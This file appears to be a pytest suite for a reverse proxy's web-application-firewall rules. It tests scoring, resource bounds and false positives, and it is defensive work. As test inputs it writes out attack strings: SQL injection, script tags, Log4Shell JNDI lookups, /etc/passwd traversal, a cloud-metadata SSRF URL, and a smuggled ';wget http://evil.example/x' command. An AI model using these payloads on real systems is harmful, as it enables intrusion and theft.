"""Scores, places, reports and bounds."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest
from hypothesis import given, settings, strategies as st

from revproxy.filters.decode import PARAMETERS
from revproxy.filters.engine import IN_HEAD, RuleSet
from revproxy.filters.media import reading
from revproxy.filters.report import Report
from revproxy.filters.rules import BODY, HEADERS, QUERY, RULES, Rule
from tests.filters.kit import BROWSER, FORM, raw_field, request, samples, work

RULE_SET = RuleSet()


def found(target: bytes = b"/", *fields: tuple[bytes, bytes], rules: RuleSet = RULE_SET) -> Report:
    report = Report()
    made = request(target, *fields)
    glanced = rules.glance(made)
    work(rules.head(made, report))
    assert glanced or not report
    return report


def test_scores_of_rules_are_added_once_each() -> None:
    report = found(b"/?a=%27+or+1%3D1--&b=%27+or+2%3D2--")
    assert report.score == sum(hit.rule.score for hit in report.hits.values()) >= 5
    assert len({hit.rule.id for hit in report.hits.values()}) == len(report.hits)
    assert all(hit.where == "query a" for hit in report.hits.values())


def test_a_report_is_printable_and_short() -> None:
    report = found(b"/?n%00%0d=%3Cscript%3E" + b"%ff%0a%22" * 400)
    detail = report.detail(5)
    assert detail.startswith("score ") and detail.isascii() and detail.isprintable() and len(detail) < 1500
    assert '3001 script-tag in query n\\x00\\x0d: "<script"' in detail


def test_places_are_told_apart() -> None:
    own = [Rule(10001, "q", 2, "needle", (), QUERY), Rule(10002, "b", 3, "Needle", (), BODY)]
    rules = RuleSet(own)
    assert [hit.rule.id for hit in found(b"/needle?x=1", rules=rules).hits.values()] == []
    assert found(b"/?x=NEEDLE", rules=rules).score == 2
    report = Report()
    work(rules.body(reading(FORM), b"a=needle", report))
    assert [hit.rule.id for hit in report.hits.values()] == [10002]


def test_rules_are_left_out_by_number_and_level() -> None:
    target = b"/?q=%3Cscript%3E"
    assert 3001 in found(target).hits
    assert not found(target, rules=RuleSet(without=[3001])).hits
    assert 3101 not in found(target).hits and 3101 in found(target, rules=RuleSet(level=2)).hits
    assert any(rule.level == 2 for rule in RULES)


def test_fields_with_secrets_are_not_looked_at() -> None:
    attack = b"${jndi:ldap://x}"
    for name in (b"Authorization", b"X-Api-Key", b"Proxy-Authorization"):
        assert not found(b"/", (name, attack)).hits
    for name in (b"X-Anything", b"Referer", b"User-Agent", b"Cookie"):
        assert found(b"/", (name, attack)).score >= 5, name


def test_an_agent_is_not_harmless_because_its_rule_found_something_before() -> None:
    rules, agent = RuleSet(), (b"user-agent", b"${jndi:ldap://x/a}")
    assert found(b"/?q=$%7Bjndi:ldap://x/a%7D", agent, rules=rules).hits
    assert found(b"/", agent, rules=rules).hits


def test_agents_that_are_remembered_are_bounded() -> None:
    rules = RuleSet()
    for number in range(3000):
        found(b"/", (b"User-Agent", b"agent %d" % number), rules=rules)
    assert len(rules._agents) <= 2048
    for _ in range(2):
        assert found(b"/", (b"User-Agent", b"sqlmap/1.0"), rules=rules).score == 5


def test_paths_that_are_remembered_are_bounded_and_harmless() -> None:
    rules = RuleSet()
    for number in range(3000):
        assert not found(b"/page/%d" % number, rules=rules)
        assert found(b"/%d/.git/config" % number, rules=rules).score >= 5
    assert len(rules._paths) <= 2048 and not any(b".git" in path for path in rules._paths)
    assert found(b"/page/2999?q=%3Cscript%3E", rules=rules).score >= 5


def test_what_is_over_a_bound_is_said_and_looked_at_as_one() -> None:
    report = found(b"/?" + b"&".join([b"a=%27"] * IN_HEAD) + b"&y&z=%3Cscript")
    assert report.uninspected == [f"query parameters after the first {IN_HEAD}, but as one text"]
    assert str(report.hits[3001]) == '3001 script-tag in query: "<script"' and "not inspected" in report.detail(5)
    report = found(b"/", *[(b"Cookie", b"a='; b")] * (IN_HEAD // 2), (b"Cookie", b"z=<script"))
    assert report.uninspected == [f"cookies after the first {IN_HEAD}, but as one text"] and 3001 in report.hits
    report = Report()
    work(RULE_SET.body(reading(FORM), b"a=%27&" * PARAMETERS + b"z=%3Cscript", report))
    assert report.uninspected == [f"body parameters after the first {PARAMETERS}, but as one text"]
    assert 3001 in report.hits


def test_cookies_are_bounded_together() -> None:
    """34 lines of 150 cookies each took 0.4 s; now 200 cookies are tried, and the rest as one text."""
    before = time.process_time()
    found(b"/?" + b"&".join([b"%u0025("] * 1000), *[(b"Cookie", b";".join([b"%u0025("] * 110))] * 34)
    assert time.process_time() - before < 0.25


def test_bodies_of_unknown_type_are_told_by_their_beginning() -> None:
    for kind in (b"", b"text/plain", b"application/json"):
        report = Report()
        work(RULE_SET.body(reading(kind), b' {"a": "\\u003cscript>"}', report))
        assert 3001 in report.hits
    report = Report()
    work(RULE_SET.body(reading(b"text/plain"), b"a=%3Cscript", report))
    assert 3001 in report.hits
    assert not reading(b"image/png") and not reading(b"application/octet-stream")
    assert reading(b"application/problem+json; charset=utf-8") and reading(b"")


@settings(deadline=None, max_examples=60)
@given(
    st.binary(max_size=200),
    st.binary(max_size=200),
    st.sampled_from([b"", FORM, b"multipart/form-data; boundary=a", b"text/json"]),
)
def test_no_bytes_break_it(value: bytes, body: bytes, kind: bytes) -> None:
    report = Report()
    made = request()
    made.path, made.query = b"/" + value, value
    made.headers.fields = [*made.headers.fields, raw_field(b"X-A", value), raw_field(b"Cookie", value)]
    work(RULE_SET.head(made, report))
    work(RULE_SET.body(reading(kind), body, report))
    assert report.detail(5).isprintable()


def test_hostile_heads_and_bodies_take_bounded_time() -> None:
    """The most expensive that was found: many parameters, each tried by many rules; 64 KB of separators."""
    piece = b"a%5B=%27+or+%28select+%3C%24%7B%7B%3B%7C%26-- "
    before = time.process_time()
    found(b"/?" + b"&".join([piece.strip()] * 170))
    report = Report()
    for text in (b"'; " * 5000, b"{{__" * 4000, b"../" * 5000, b"select(" * 2300, b"%25" * 5000):
        work(RULE_SET.body(reading(FORM), b"a=" + text, report))
    assert time.process_time() - before < 3


def test_a_browsers_request_passes() -> None:
    assert len(BROWSER) == 13
    assert not found(b"/products/list?category=shoes&page=2&sort=price_asc&q=running+shoes")


def test_long_values_are_searched_window_by_window() -> None:
    for size in (5_000, 13_000):
        for at in range(4096 - 1030, 4096 + 20, 3):
            text = b"a=" + b"x" * at + b"<script>" + b"y" * (size - at)
            if at % 60 == 0 or at > 4080:
                report = Report()
                work(RULE_SET.body(reading(FORM), text, report))
                assert report.hits[3001].text == b"<script", at
    # the beginning and the end of a text are not those of a window
    own = RuleSet([Rule(10001, "end", 5, "needle$", (), BODY), Rule(10002, "begin", 5, "^needle", (), BODY)])
    for size in range(4096 - 10, 4096 + 10):
        report = Report()
        work(own.body(reading(FORM), b"a=" + (b"x" * size + b"needle") * 3 + b"x", report))
        assert not report
    for text in (b"x" * 9_000 + b"needle", b"needle" + b"x" * 9_000):
        report = Report()
        work(own.body(reading(FORM), b"a=" + text, report))
        assert len(report.hits) == 1


def test_no_step_is_long() -> None:
    """What one step takes is told in that of all: the reactor serves others between them."""
    body = b"a=" + b"{{__$" * (16384 // 5)
    steps = list(RULE_SET.body(reading(FORM), body, Report()))
    assert len(steps) > 20
    heads = request(b"/?" + b"&".join([b"a=%27("] * 90), *[(b"Cookie", b"; ".join([b"b='("] * 90))] * 8)
    assert len(list(RULE_SET.head(heads, Report()))) > 150


@settings(deadline=None, max_examples=100)
@given(st.sampled_from([line[3:] for line in samples("attack") if line[0] == "v"]), st.integers(0, 3))
def test_a_glance_passes_nothing_that_would_be_found(attack: str, place: int) -> None:
    value = quote(attack).encode()
    target = (b"/?a=1&b=" + value, b"/", b"/", b"/" + value)[place]
    fields = [(), ((b"Cookie", b"a=b; c=" + value),), ((b"X-Thing", value),), ()][place]
    found(target, *fields, rules=RuleSet() if place == 1 else RULE_SET)


@pytest.mark.parametrize(
    ("name", "value", "number"),
    [
        (b"X-File", b"../../../../etc/passwd", 1101),
        (b"X-File", b"/etc/passwd", 1103),
        (b"X-Id", b"1 union select null,null from users", 2001),
        (b"X-Id", b"1 or 1=1", 2003),
        (b"Referer", b"javascript:alert(1)", 3003),
        (b"Referer", b"https://www.example.com/?a=1&b=javascript:alert(1)", 3003),
        (b"X-Host", b";wget http://evil.example/x", 4001),
        (b"X-Class", b"class.module.classLoader.x", 5007),
        (b"X-Include", b"php://filter/read=x/resource=y", 6002),
        (b"X-Data", b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 6005),
        (b"X-Python", b"__import__(os)", 5003),
        (b"X-Url", b"http://169.254.169.254/latest/meta-data/", 7001),
    ],
)
def test_fields_of_plain_letters_are_looked_at(name: bytes, value: bytes, number: int) -> None:
    rules = RuleSet()
    for _ in range(2):
        assert number in found(b"/", (name, value), rules=rules).hits


def test_own_rules_for_header_fields_find_any_text() -> None:
    for pattern, needs in (("evil-word", ("evil-word",)), ("ev[i1]l-w[0o]rd", ())):
        rules = RuleSet([Rule(10001, "own", 5, pattern, needs, HEADERS)])
        for _ in range(2):
            assert not found(b"/", (b"X-A", b"good-word"), rules=rules)
            assert found(b"/", (b"X-A", b"Evil-Word"), rules=rules).score == 5
            assert found(b"/", (b"Referer", b"https://www.example.com/evil-word"), rules=rules).score == 5


def test_what_is_usual_in_header_fields_passes() -> None:
    rules = RuleSet()
    for name, value in (
        (b"Accept", b"*/*"),
        (b"Accept", b"text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
        (b"Accept-Language", b"de-CH,de;q=0.9,en;q=0.8,*;q=0.5"),
        (b"Referer", b"https://www.example.com/list?a=1&id"),
        (b"Referer", b"https://www.example.com/list?a=1&id&set&page=2"),
        (b"Referer", b"https://www.example.com/search?q=rock+%26+roll&next=%2Fa%2Fb%3Fc%3Dd"),
        (b"Via", b"1.1 varnish (Varnish/7.1), 1.1 cache (squid/4.10)"),
        (b"Forwarded", b'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"'),
        (b"X-Forwarded-For", b"100.100.100.200, 10.0.0.1"),
        (b"X-Real-IP", b"169.254.1.1"),
        (b"X-Amzn-Trace-Id", b"Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
        (b"X-Cloud-Trace-Context", b"105445aa7843bc8bf206b12000100000/1;o=1"),
        (b"X-Requested-With", b"XMLHttpRequest"),
        (b"X-Client-Data", b"CIa2yQEIorbJAQipncoBCMKTywEIlqHLAQiFoM0BCLnKzQE="),
        (b"X-Original-URL", b"/shop/cart?item=5&count=2"),
        (b"Range", b"bytes=0-1023,2048-"),
        (b"Content-Type", b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ):
        assert not found(b"/", (name, value), rules=rules), (name, value)


def test_harmless_values_are_remembered_and_bounded() -> None:
    rules = RuleSet()
    again = 0
    for number in range(3000):
        made = request(b"/", (b"Referer", b"https://www.example.com/?a=%d&b=2" % number))
        if rules.glance(made):
            work(rules.head(made, Report()))
        again += rules.glance(made) > 0
    assert len(rules._values) <= 2048 and again <= 2


def test_a_value_is_not_harmless_because_its_rule_found_something_before() -> None:
    rules, field = RuleSet(), (b"X-A", b"${jndi:ldap://x/a}")
    assert found(b"/?q=$%7Bjndi:ldap://x/a%7D", field, rules=rules).hits
    assert found(b"/", field, rules=rules).hits


@pytest.mark.parametrize("value", [rb'"1\047 or \0471\047=\0471"', rb'"\074\s\c\r\i\p\t\>"', rb'"1\" or \"1\"=\"1"'])
def test_cookies_are_looked_at_as_they_are_unescaped(value: bytes) -> None:
    rules = RuleSet()
    for _ in range(2):
        assert found(b"/", (b"Cookie", b"a=b; id=" + value), rules=rules).score >= 5
        assert found(b"/", (b"Cookie", b"id=" + value), (b"Cookie", b"c=d"), rules=rules).score >= 5
        assert not found(b"/", (b"Cookie", rb'a=b; id="C:\dir\101"'), rules=rules)
